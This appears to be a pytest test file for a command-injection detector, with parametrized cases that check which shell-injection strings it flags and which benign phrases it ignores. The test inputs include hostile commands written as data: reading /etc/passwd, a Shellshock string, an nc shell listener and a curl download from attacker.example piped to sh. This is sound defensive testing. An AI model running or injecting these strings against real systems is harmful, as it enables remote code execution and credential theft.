"""OS command injection: separators and substitutions that lead to commands."""

from __future__ import annotations

import pytest

from secmon.attacks import command


@pytest.mark.parametrize(("text", "rule"), [
    ("8.8.8.8; cat /etc/passwd", "cmdi.chained_command"),
    ("a|id", "cmdi.chained_command"),
    ("x && whoami", "cmdi.chained_command"),
    ("|/usr/bin/id", "cmdi.chained_command"),
    ("& dir c:\\", "cmdi.chained_command"),
    ("\nid\n", "cmdi.chained_command"),
    ("`id`", "cmdi.substitution"),
    ("$(whoami)", "cmdi.substitution"),
    (";${ifs}cat${ifs}/etc/passwd", "cmdi.shell_trick"),
    ("() { :;}; /bin/bash -c id", "cmdi.shell_trick"),
    ("nc -lvvp 4444 -e /bin/sh", "cmdi.shell_trick"),
    ("{cat,/etc/passwd}", "cmdi.shell_trick"),
    ("cat /etc/passwd", "cmdi.command_line"),
    ("curl -s https://attacker.example/x | sh", "cmdi.chained_command"),
    ("whoami", "cmdi.command_line"),
    ("<?php system('id'); ?>", "cmdi.code_exec"),
])
def test_commands(text: str, rule: str) -> None:
    hit = command.detect(text)
    assert hit is not None and hit.rule_id == rule, (text, hit)


@pytest.mark.parametrize("text", [
    "tom & jerry", "salt & pepper; more later", "home | about | contact", "r&d; type: shoes",
    "run `ls -la` to see files", "$(document).ready(function () {})", "curl examples",
    "bash scripting tutorial", "curl/8.5.0", "ping me on slack", "i love dogs; cat people too",
    "{a,b} destructuring", "exec summary template", "curl -X POST https://api.example.com/v1",
])
def test_ordinary_text(text: str) -> None:
    assert command.detect(text) is None
